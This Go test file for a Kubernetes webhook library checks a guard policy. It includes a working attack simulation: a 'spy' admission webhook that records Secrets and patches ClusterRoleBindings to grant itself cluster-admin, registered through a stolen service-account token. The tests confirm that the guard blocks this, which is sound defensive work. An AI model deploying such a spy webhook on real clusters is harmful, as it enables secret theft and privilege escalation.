package replica_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/crdkit/crdkit/admission"
	"github.com/crdkit/crdkit/test/controlplane"
	"github.com/crdkit/crdkit/test/expect"
	"github.com/crdkit/crdkit/test/rbac"
	"github.com/crdkit/crdkit/test/webhooktest"
	"github.com/crdkit/crdkit/webhook"
	"github.com/crdkit/crdkit/webhook/authority"
	"github.com/crdkit/crdkit/webhook/registration"
	"github.com/crdkit/crdkit/webhook/replica"
)

// victim is a town whose operator has a token of its service account, and no rights but those that the packages print.
type victim struct {
	*town
	admin, cook kubernetes.Interface
	user        string
}

func newVictim(t *testing.T, cp *controlplane.ControlPlane) *victim {
	t.Helper()
	v := &victim{town: openOn(t, cp)}
	v.user = "system:serviceaccount:" + v.system + ":cook"
	declare := v.hooks
	v.hooks = func(extra ...registration.Option) *registration.Webhooks {
		mutate := admission.Mutate(func(context.Context, *unstructured.Unstructured) error { return nil }, admission.ForKind(v.kind("v1")))
		return declare(append(extra, registration.Mutating("default.pizzas.example.com", "/default", admission.NewHandler(runtime.NewScheme(), mutate)))...)
	}
	var err error
	v.admin, err = kubernetes.NewForConfig(v.Config())
	expect.NoError(t, err)
	core := v.admin.CoreV1()
	_, err = core.ServiceAccounts(v.system).Create(t.Context(), &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "cook", Namespace: v.system}}, metav1.CreateOptions{})
	expect.NoError(t, err)
	rbac.Grant(t, v.Config(), "", v.user, v.guarded().PolicyRules()...)
	rbac.Grant(t, v.Config(), v.system, v.user, authority.PolicyRules(v.operator+"-webhook")...)
	token, err := core.ServiceAccounts(v.system).CreateToken(t.Context(), "cook", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	expect.NoError(t, err)
	v.config = rest.AnonymousClientConfig(v.Config())
	v.config.QPS, v.config.BearerToken = -1, token.Status.Token
	v.cook, err = kubernetes.NewForConfig(v.config)
	expect.NoError(t, err)
	return v
}

func (v *victim) guarded() *registration.Webhooks {
	return v.hooks(registration.Guard("cook", v.operator+"-webhook"))
}

// mayAll reports whether the operator may do everything.
func (v *victim) mayAll(t *testing.T) bool {
	t.Helper()
	review, err := v.cook.AuthorizationV1().SelfSubjectAccessReviews().Create(t.Context(), &authorizationv1.SelfSubjectAccessReview{
		Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "*", Group: "*", Resource: "*"}},
	}, metav1.CreateOptions{})
	expect.NoError(t, err)
	return review.Status.Allowed
}

// spy is the webhook of an attacker. It keeps the last Secret, and adds a user to new ClusterRoleBindings.
type spy struct {
	user   string
	secret atomic.Pointer[string]
}

func (s *spy) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var review admissionv1.AdmissionReview
	body, err := io.ReadAll(r.Body)
	if err = errors.Join(err, json.Unmarshal(body, &review)); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	review.Response = &admissionv1.AdmissionResponse{UID: review.Request.UID, Allowed: true}
	switch review.Request.Kind.Kind {
	case "Secret":
		text := string(review.Request.Object.Raw)
		s.secret.Store(&text)
	case "ClusterRoleBinding":
		patch := admissionv1.PatchTypeJSONPatch
		review.Response.PatchType = &patch
		review.Response.Patch = fmt.Appendf(nil, `[{"op":"add","path":"/subjects/-","value":{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":%q}}]`, s.user)
	}
	review.Request = nil
	_ = json.NewEncoder(w).Encode(review) // a reader that has gone
}

// attack adds the spy to the operator's own configuration, with the operator's own token.
func (v *victim) attack(t *testing.T, url string, ca []byte) error {
	t.Helper()
	configurations := v.cook.AdmissionregistrationV1().MutatingWebhookConfigurations()
	c, err := configurations.Get(t.Context(), v.operator, metav1.GetOptions{})
	expect.NoError(t, err)
	c.Webhooks = append(c.Webhooks, admissionregistrationv1.MutatingWebhook{
		Name: "spy.example.com", AdmissionReviewVersions: []string{"v1"}, SideEffects: new(admissionregistrationv1.SideEffectClassNone),
		ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: ca},
		Rules: []admissionregistrationv1.RuleWithOperations{{
			Operations: []admissionregistrationv1.OperationType{"*"},
			Rule:       admissionregistrationv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"secrets", "clusterrolebindings"}},
		}},
	})
	_, err = configurations.Update(t.Context(), c, metav1.UpdateOptions{})
	return err
}

// guards waits until the API server enforces the guard.
func (v *victim) guards(t *testing.T) {
	t.Helper()
	configurations := v.cook.AdmissionregistrationV1().MutatingWebhookConfigurations()
	expect.Eventually(t, func() error {
		c, err := configurations.Get(t.Context(), v.operator, metav1.GetOptions{})
		expect.NoError(t, err)
		c.Labels = map[string]string{"a": "b"}
		_, err = configurations.Update(t.Context(), c, metav1.UpdateOptions{DryRun: []string{"All"}})
		if err == nil || !strings.Contains(err.Error(), denial) {
			return fmt.Errorf("not guarded yet: %w", err)
		}
		return nil
	})
}

// denial is the text with which the guard denies an update.
const denial = "-guard' denied request: the operator may change only the caBundle"

// administrate does what administrators do: it writes a Secret of kube-system, and grants all rights to somebody.
func (v *victim) administrate(t *testing.T) {
	t.Helper()
	_, err := v.admin.CoreV1().Secrets("kube-system").Create(t.Context(), &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "database-"}, StringData: map[string]string{"password": "xyzzy"},
	}, metav1.CreateOptions{})
	expect.NoError(t, err)
	_, err = v.admin.RbacV1().ClusterRoleBindings().Create(t.Context(), &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "admins-"},
		Subjects:   []rbacv1.Subject{{Kind: "User", APIGroup: rbacv1.GroupName, Name: "alice"}},
		RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", APIGroup: rbacv1.GroupName, Name: "cluster-admin"},
	}, metav1.CreateOptions{})
	expect.NoError(t, err)
}

// TestGuard_StolenToken attacks with the token of the operator, first without the guard, so that it is known that the
// attack works, and then with it.
func TestGuard_StolenToken(t *testing.T) {
	t.Parallel()
	v := newVictim(t, controlplane.ForTest(t)) // the spy sees all Secrets
	s := &spy{user: v.user}
	url, ca := webhooktest.Serve(t, s)

	v.apply(t, v.hooks())
	if v.mayAll(t) {
		t.Fatal("the operator may do everything before the attack")
	}
	expect.NoError(t, v.attack(t, url, ca))
	expect.Eventually(t, func() error { // the API server calls a new webhook after a moment
		v.administrate(t)
		if s.secret.Load() == nil || !v.mayAll(t) {
			return errors.New("the attack has no effect yet")
		}
		return nil
	})
	if !strings.Contains(*s.secret.Load(), `"password":"eHl6enk="`) {
		t.Errorf("the attacker got the Secret %s", *s.secret.Load())
	}

	// An administrator cleans up, and applies the manifests with the guard.
	expect.NoError(t, v.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(t.Context(), v.operator, metav1.DeleteOptions{}))
	bindings, err := v.admin.RbacV1().ClusterRoleBindings().List(t.Context(), metav1.ListOptions{})
	expect.NoError(t, err)
	for _, b := range bindings.Items {
		if strings.HasPrefix(b.Name, "admins-") {
			expect.NoError(t, v.admin.RbacV1().ClusterRoleBindings().Delete(t.Context(), b.Name, metav1.DeleteOptions{}))
		}
	}
	expect.Eventually(t, func() error { // the API server's caches
		if v.mayAll(t) {
			return errors.New("the operator may still do everything")
		}
		return nil
	})
	v.apply(t, v.guarded())
	v.guards(t)
	s.secret.Store(nil)
	if err := v.attack(t, url, ca); !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), denial) {
		t.Errorf("the attack ends with %v", err)
	}
	v.administrate(t)
	if s.secret.Load() != nil || v.mayAll(t) {
		t.Error("the attack succeeds")
	}
}

// A replica reports a guard that limits another service account than its own, because it has no effect.
func TestGuard_OtherServiceAccount(t *testing.T) {
	t.Parallel()
	v := newVictim(t, controlplane.Shared(t))
	hooks := v.hooks(registration.Guard("waiter", v.operator+"-webhook"))
	v.apply(t, hooks)
	v.start(t, hooks)
	prefix := `"system:serviceaccount:` + v.system
	want := []registration.Difference{{
		Kind: "ValidatingAdmissionPolicy", Name: v.operator + "-guard", Field: "spec.matchConditions[operator]",
		Found: prefix + `:waiter"`, Expected: prefix + `:cook"`,
	}}
	expect.Eventually(t, func() error {
		if diff := cmp.Diff(want, hooks.Differences()); diff != "" {
			return fmt.Errorf("(-want +got):\n%s", diff)
		}
		return nil
	})
}

// TestGuard_ReplicasWork runs a replica with a guard, and with the rights that the packages print. Its CA is created and
// rotated, its Secret comes back, and its CA bundles are repaired.
func TestGuard_ReplicasWork(t *testing.T) {
	t.Parallel()
	v := newVictim(t, controlplane.Shared(t))
	hooks := v.guarded()
	v.apply(t, hooks)
	v.guards(t)
	var changes func(yield func(kind, name, reason string, total int))
	begin := time.Now()
	v.start(t, hooks,
		replica.Authority(authority.RotateAfter(5*time.Second), authority.CALifetime(time.Minute)),
		replica.Metrics(func(status webhook.Status) error {
			changes = status.Changes
			return nil
		}))
	done := func(wanted ...string) func() error {
		return func() error {
			count := map[string]int{}
			changes(func(kind, _, reason string, total int) { count[kind+" "+reason] += total })
			for _, w := range wanted {
				if count[w] == 0 {
					return fmt.Errorf("no %s: %v", w, count)
				}
			}
			return nil
		}
	}
	expect.Eventually(t, func() error { return hooks.Ready(nil) })
	expect.Eventually(t, done("Secret CACreated", "Secret CARotationStarted", "Secret CARotated",
		"CustomResourceDefinition CABundleInjected", "MutatingWebhookConfiguration CABundleInjected", "ValidatingWebhookConfiguration CABundleInjected"))
	expect.NoError(t, v.admin.CoreV1().Secrets(v.system).Delete(t.Context(), v.operator+"-webhook", metav1.DeleteOptions{}))
	expect.Eventually(t, done("Secret SecretRecreated"))
	expect.Eventually(t, func() error { // if a rotation comes in between, the bundle is injected, and not repaired
		for _, kind := range []string{"mutating", "validating"} {
			_, err := v.client.Resource(admissionregistrationv1.SchemeGroupVersion.WithResource(kind+"webhookconfigurations")).Patch(t.Context(), v.operator,
				types.JSONPatchType, []byte(`[{"op":"replace","path":"/webhooks/0/clientConfig/caBundle","value":"Z2FyYmFnZQ=="}]`), metav1.PatchOptions{FieldManager: "somebody"})
			expect.NoError(t, err)
		}
		time.Sleep(time.Second)
		return done("MutatingWebhookConfiguration CABundleOverwritten", "ValidatingWebhookConfiguration CABundleOverwritten")()
	})
	expect.Eventually(t, func() error { return hooks.Ready(nil) })
	if d := hooks.Differences(); len(d) > 0 {
		t.Errorf("differences: %v", d)
	}
	t.Logf("after %s", time.Since(begin))
}
